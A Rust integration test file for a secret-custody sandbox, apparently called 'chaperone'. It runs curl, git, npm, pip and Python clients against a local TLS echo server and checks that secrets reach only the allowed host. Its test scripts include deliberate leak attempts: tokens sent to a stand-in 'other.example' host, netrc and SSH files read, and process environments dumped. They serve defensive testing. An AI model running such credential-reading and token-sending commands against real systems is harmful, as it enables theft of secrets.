//! Secrets in custody: real clients inside, and a TLS server outside under two names, with a certificate of an authority that
//! the launcher alone was told of. Names are given in a mount namespace, for which root is needed.

use std::fs;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};

use super::super::{stderr, stdout};
use super::{can, lab};

/// Says what it heard, in a file and in its answer.
const SERVER: &str = r#"
import http.server, ssl, sys
class Echo(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        heard = " ".join([self.headers["host"], self.path, self.headers.get("authorization", "-")])
        with open("heard", "a") as log: log.write(heard + "\n")
        body = heard.encode()
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *_): pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Echo)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain("cert.pem", "key.pem")
server.socket = context.wrap_socket(server.socket, server_side=True)
print(server.server_address[1], flush=True)
server.serve_forever()
"#;

const CERTIFICATES: &str = r#"
new="-newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes"
openssl req -x509 $new -keyout ca.key -out ca.pem -days 2 -subj /CN=authority \
    -addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign &&
openssl req $new -keyout key.pem -out request.pem -subj /CN=own.example &&
echo "subjectAltName=DNS:own.example,DNS:other.example" > names &&
openssl x509 -req -in request.pem -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -out cert.pem -extfile names
"#;

/// Made here, so that nothing in this repository looks like a live secret.
fn value() -> String {
    format!("own_{}", "R3alV4lue".repeat(4))
}

struct Outside {
    home: tempfile::TempDir,
    server: Child,
    port: u16,
}

impl Outside {
    /// None where it cannot be had here.
    fn make() -> Option<Self> {
        let needs = ["python3", "curl", "unshare"].map(str::to_owned);
        let openssl = Command::new("openssl").arg("version").output();
        let missing = lab::missing(&needs).cloned();
        let missing = missing.or_else(|| openssl.is_err().then(|| "openssl".into()));
        let missing =
            missing.or_else(|| (!rustix::process::geteuid().is_root()).then(|| "root".into()));
        if let Some(missing) = missing {
            println!("skipped: no {missing}, which gives names and certificates");
            return None;
        }
        if !can("namespaces") {
            return None;
        }
        let above = Path::new(env!("CARGO_TARGET_TMPDIR"));
        let home = tempfile::tempdir_in(above).or_else(|_| tempfile::tempdir()).expect("a folder");
        fs::create_dir(home.path().join("w")).expect("made");
        let made = Command::new("sh")
            .args(["-c", CERTIFICATES])
            .current_dir(home.path())
            .output()
            .expect("started");
        assert!(made.status.success(), "{}", stderr(&made));
        fs::write(home.path().join("hosts"), "127.0.0.1 own.example other.example\n")
            .expect("written");
        let mut server = Command::new("python3")
            .args(["-c", SERVER])
            .current_dir(home.path())
            .stdout(Stdio::piped())
            .spawn()
            .expect("started");
        let mut line = String::new();
        let said = server.stdout.take().expect("it is piped");
        BufReader::new(said).read_line(&mut line).expect("a line");
        Some(Self { home, server, port: line.trim().parse().expect("a port") })
    }

    fn path(&self, name: &str) -> PathBuf {
        self.home.path().join(name)
    }

    /// Runs a script inside; `$OWN` and `$OTHER` are the addresses.
    fn run(&self, words: &[&str], script: &str) -> Output {
        let (hosts, w) = (self.path("hosts"), self.path("w"));
        let named = "mount --bind \"$HOSTS\" /etc/hosts && exec \"$@\"";
        Command::new("unshare")
            .args(["--mount", "sh", "-c", named, "sh", env!("CARGO_BIN_EXE_chaperone"), "run"])
            .args(["--net", "allow=*.example,127.0.0.1"])
            .args(words)
            .args(["--", "sh", "-c", script])
            .current_dir(&w)
            .env("HOSTS", hosts)
            .env("HOME", self.home.path())
            .env("CHAPERONE_DATA_DIR", self.path("data"))
            .env("CHAPERONE_CONFIG", self.path("chaperone.toml"))
            .env("SSL_CERT_FILE", self.path("ca.pem"))
            .env("OWN_TOKEN", value())
            .env("COPY", format!("me:{}", value()))
            .env("OWN", format!("https://own.example:{}", self.port))
            .env("OTHER", format!("https://other.example:{}", self.port))
            .env("NO_COLOR", "1")
            .stdin(Stdio::null())
            .output()
            .expect("started")
    }

    fn heard(&self) -> String {
        fs::read_to_string(self.path("heard")).unwrap_or_default()
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

/// What each client sends its credentials with.
const CLIENTS: &str = r#"
ask() { echo "== $1"; shift; "$@" 2>&1; }
ask curl curl -s "$OWN/curl" -H "Authorization: Bearer $OWN_TOKEN"
ask basic curl -s "$OWN/basic" -u "$COPY"
ask netrc curl -s -n "$OWN/netrc"
cat ~/.netrc; find ~/.ssh; cat ~/.ssh/*.pub
if git --version > /dev/null 2>&1; then
    ask git git -c "http.extraHeader=Authorization: Bearer $OWN_TOKEN" ls-remote "$OWN/git"
fi
ask python python3 -c '
import os, urllib.request as u
r = u.Request(os.environ["OWN"] + "/python", headers={"Authorization": "Bearer " + os.environ["OWN_TOKEN"]})
print(u.urlopen(r).read().decode())'
if npm --version > /dev/null 2>&1; then
    echo "//own.example:${OWN##*:}/:_authToken=\${OWN_TOKEN}" > .npmrc
    npm_config_cache=$PWD/c ask npm npm view thing --registry "$OWN/npm/" --userconfig .npmrc --fetch-retries 0
fi
if pip --version > /dev/null 2>&1; then
    ask pip pip download -q --no-input --disable-pip-version-check --index-url "https://${COPY}@${OWN#https://}/pip" thing
fi
env; cat /proc/*/environ 2> /dev/null | tr '\0' '\n'
true
"#;

#[test]
fn the_server_has_the_secret_and_the_box_never() {
    let Some(outside) = Outside::make() else { return };
    let named = format!("OWN_TOKEN=own.example:{}", outside.port);
    fs::write(outside.path("chaperone.toml"), "").expect("written");
    let login = format!("in-a-file-{}", value());
    let netrc = format!("machine own.example login me password {login}\n");
    fs::write(outside.path(".netrc"), netrc).expect("written");
    fs::create_dir(outside.path(".ssh")).expect("made");
    for (name, text) in [("id_ed25519", value()), ("id_ed25519.pub", "PUBLIC".into())] {
        fs::write(outside.path(".ssh").join(name), text).expect("written");
    }
    let output = outside.run(&["--secret", &named], CLIENTS);
    let (said, told, heard) = (stdout(&output), stderr(&output), outside.heard());
    assert!(output.status.success(), "{said}{told}");
    assert!(told.contains("in custody: NETRC_OWN_EXAMPLE, OWN_TOKEN"), "{told}");
    assert!(!said.contains("R3alV4lue") && !told.contains("R3alV4lue"), "{said}{told}");
    let bearer = format!("Bearer {}", value());
    // `me:` and the value, in base64.
    let basic = |value: &str| {
        let encode = Command::new("sh")
            .args(["-c", "printf %s \"$0\" | base64 -w0", &format!("me:{value}")])
            .output()
            .expect("started");
        format!("Basic {}", stdout(&encode))
    };
    let (basic, of_file) = (basic(&value()), basic(&login));
    assert!(said.contains("PUBLIC") && said.contains("/.ssh/config\n"), "{said}");
    assert!(!said.contains("/.ssh/id_ed25519\n"), "{said}");
    for (client, credentials) in [
        ("/curl", &bearer),
        ("/basic", &basic),
        ("/netrc", &of_file),
        ("/git/info/refs?service=git-upload-pack", &bearer),
        ("/python", &bearer),
        ("/npm/thing", &bearer),
        ("/pip/thing/", &basic),
    ] {
        let name = client.split(['/', '?']).nth(1).unwrap_or_default();
        if !said.contains(&format!("== {name}\n")) {
            println!("skipped: no {name}");
            continue;
        }
        let line = heard.lines().find(|line| line.contains(client));
        let line = line.unwrap_or_else(|| panic!("{client} did not come:\n{heard}{said}{told}"));
        assert!(line.ends_with(credentials.as_str()), "{line}");
    }
}

#[test]
fn another_host_does_not_get_it_and_it_is_told() {
    let Some(outside) = Outside::make() else { return };
    // As the configuration names it, from a file that is not there for the program.
    let file = outside.path("w/token");
    fs::write(&file, format!("{}\n", value())).expect("written");
    let settings = format!(
        "[run.secrets.OWN_TOKEN]\nhosts = [\"own.example:{}\"]\nfile = {file:?}\n",
        outside.port
    );
    fs::write(outside.path("chaperone.toml"), settings).expect("written");
    let script = r#"
curl -s "$OTHER/header" -H "Authorization: Bearer $OWN_TOKEN"
curl -s "$OTHER/body" -d "text=$OWN_TOKEN"
curl -s "$OWN/title?title=$OWN_TOKEN"
curl -s "$OWN/right" -H "Authorization: Bearer $OWN_TOKEN" > /dev/null
cat token; true"#;
    let output = outside.run(&[], script);
    let (said, told, heard) = (stdout(&output), stderr(&output), outside.heard());
    assert!(!said.contains("R3alV4lue"), "{said}");
    let (right, wrong): (Vec<_>, Vec<_>) = heard.lines().partition(|line| line.contains("/right"));
    assert!(right.iter().any(|line| line.contains(&value())), "{heard}{said}{told}");
    assert!(wrong.iter().all(|line| !line.contains("R3alV4lue")), "{heard}");
    assert!(told.contains("egress.secret-elsewhere"), "{told}");
    assert!(told.contains("egress.secret-misplaced"), "{told}");
}

#[test]
fn without_a_proxy_nothing_is_held_and_that_is_said() {
    if !can("namespaces") {
        return;
    }
    let home = tempfile::tempdir().expect("a folder");
    let run = |net: &str, words: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_chaperone"))
            .args(["run", "--net", net])
            .args(words)
            .args(["--", "sh", "-c", "echo $NPM_TOKEN"])
            .current_dir(home.path())
            .env("HOME", home.path())
            .env("CHAPERONE_DATA_DIR", home.path().join("data"))
            .env("NPM_TOKEN", value())
            .output()
            .expect("started")
    };
    let nowhere = run("none", &[]);
    assert!(stderr(&nowhere).contains("in custody: NPM_TOKEN"), "{}", stderr(&nowhere));
    let said = stdout(&nowhere);
    assert!(said.trim().len() == value().len() && !said.contains("R3alV4lue"), "{said}");
    let everywhere = run("all", &[]);
    let told = stderr(&everywhere);
    assert!(told.contains("not in custody: NPM_TOKEN (there is no proxy)"), "{told}");
    assert_eq!(stdout(&everywhere).trim(), value());
    let refused = run("all", &["--secret", "NPM_TOKEN=a.example"]);
    assert!(stderr(&refused).contains("hint: leave out `--net all`"), "{}", stderr(&refused));
}
